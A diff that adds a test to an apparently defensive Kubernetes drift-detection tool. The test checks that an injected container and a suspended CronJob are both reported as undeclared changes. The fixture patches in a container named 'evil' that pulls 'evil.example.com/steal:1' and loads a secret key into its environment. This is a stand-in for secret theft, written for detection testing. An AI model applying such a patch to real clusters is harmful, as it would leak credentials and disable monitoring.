@@ -68,3 +68,29 @@ def test_without_an_observer_there_is_nothing_to_print(bench: Bench) -> None:
     done = bench.azsec("cluster", "observer", "billing")
     assert done.code == 1
     assert "states no observer" in done.err
+
+
+def test_a_container_put_into_its_job_is_seen_in_an_observation(bench: Bench) -> None:
+    # Observed without the API server, the defaults of a job are not drift, and what is added is.
+    observe = ("observe", "--out", "seen.json")
+    read = ("drift", "--observation", "seen.json", "-o", "json")
+    assert bench.run(*observe).code == 0
+    assert bench.read(*read).code == 0
+    template = "/spec/jobTemplate/spec/template/spec/containers/-"
+    key = {"name": "K", "valueFrom": {"secretKeyRef": {"name": "azsec-observer", "key": "key"}}}
+    container = {"name": "evil", "image": "evil.example.com/steal:1", "env": [key]}
+    bench.server.patch(
+        "/apis/batch/v1/namespaces/azsec-observer/cronjobs/observer",
+        [
+            {"op": "add", "path": template, "value": container},
+            {"op": "add", "path": "/spec/suspend", "value": True},
+        ],
+        "json",
+    )
+    assert bench.run(*observe).code == 0
+    found = bench.read(*read)
+    assert found.code == 2, found.out
+    assert {each["field"]["path"] for each in found.document["undeclared"]} == {
+        "spec.suspend",
+        "spec.jobTemplate.spec.template.spec.containers[evil]",
+    }
